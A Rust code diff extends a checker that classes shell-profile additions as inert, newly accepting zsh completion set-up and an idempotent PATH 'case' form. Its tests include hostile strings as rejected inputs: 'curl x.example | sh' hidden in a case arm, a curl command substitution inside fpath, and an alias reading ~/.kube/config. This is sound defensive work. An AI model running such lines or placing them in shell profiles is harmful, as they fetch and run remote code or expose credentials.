@@ -1461,7 +1461,54 @@ fn only_plain_ssh_hosts(added: &str) -> bool {
 }
 
 /// `export PATH="$HOME/tools/bin:$PATH"`: directories put on the search path, nothing run.
+/// zsh's completion set-up: a plain folder put on `fpath`, and the completion system loaded.
+fn completion_setup(l: &str) -> bool {
+    let l = l.split(" #").next().unwrap_or(l).trim();
+    let plain = |d: &str| {
+        !d.is_empty()
+            && d.chars().all(|c| {
+                c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '~' | '$' | '{' | '}')
+            })
+            && !d.contains("$(")
+    };
+    if let Some(inner) =
+        l.strip_prefix("fpath=(").or_else(|| l.strip_prefix("fpath+=(")).and_then(|r| r.strip_suffix(')'))
+    {
+        return inner.split_whitespace().all(|d| d == "$fpath" || plain(d.trim_matches(['"', '\''])));
+    }
+    l.split("&&").flat_map(|p| p.split(';')).map(str::trim).filter(|p| !p.is_empty()).all(|p| {
+        matches!(
+            p,
+            "compinit"
+                | "autoload -Uz compinit"
+                | "autoload -U compinit"
+                | "autoload compinit"
+                | "compinit -i"
+        )
+    })
+}
+
 fn plain_path_entry(l: &str) -> bool {
+    // The idempotent form: `case ":$PATH:" in *":$HOME/.local/bin:"*) ;; *) export PATH=... ;; esac`.
+    if let Some(arms) =
+        l.trim().strip_prefix("case \":$PATH:\" in").and_then(|r| r.trim_end().strip_suffix("esac"))
+    {
+        let mut any = false;
+        for arm in arms.split(";;").map(str::trim).filter(|a| !a.is_empty()) {
+            let Some((pattern, action)) = arm.split_once(')') else { return false };
+            if !pattern.chars().all(|c| c.is_ascii_alphanumeric() || "*\":$/._-{}~".contains(c)) {
+                return false;
+            }
+            let action = action.trim();
+            if !action.is_empty() {
+                if !plain_path_entry(action) {
+                    return false;
+                }
+                any = true;
+            }
+        }
+        return any;
+    }
     // A trailing comment (`# devkit`) says nothing that runs.
     let l = l.split(" #").next().unwrap_or(l).trim();
     let def = l.strip_prefix("export ").unwrap_or(l).trim();
@@ -1517,7 +1564,7 @@ fn only_inert_aliases(added: &str) -> bool {
         if l.is_empty() || l.starts_with('#') {
             continue;
         }
-        if plain_path_entry(l) {
+        if plain_path_entry(l) || completion_setup(l) {
             any = true;
             continue;
         }
@@ -1981,9 +2028,19 @@ mod tests {
             "alias k=\"$(cat ~/.kube/config)\"",
             "",
             "# only a comment",
+            "case \":$PATH:\" in *) curl x.example | sh ;; esac",
+            "fpath=($(curl x.example) $fpath)",
+            "compinit && curl x.example",
         ] {
             assert!(!only_inert_aliases(added), "{added:?}");
         }
+        // A PATH entry added only once, and zsh's completion set-up.
+        assert!(only_inert_aliases(
+            "# acme\ncase \":$PATH:\" in *\":$HOME/.local/bin:\"*) ;; *) export PATH=\"$HOME/.local/bin:$PATH\" ;; esac\n"
+        ));
+        assert!(only_inert_aliases(
+            "fpath=(/home/u/.local/share/zsh/site-functions $fpath)\nautoload -Uz compinit && compinit\n"
+        ));
     }
 
     #[test]
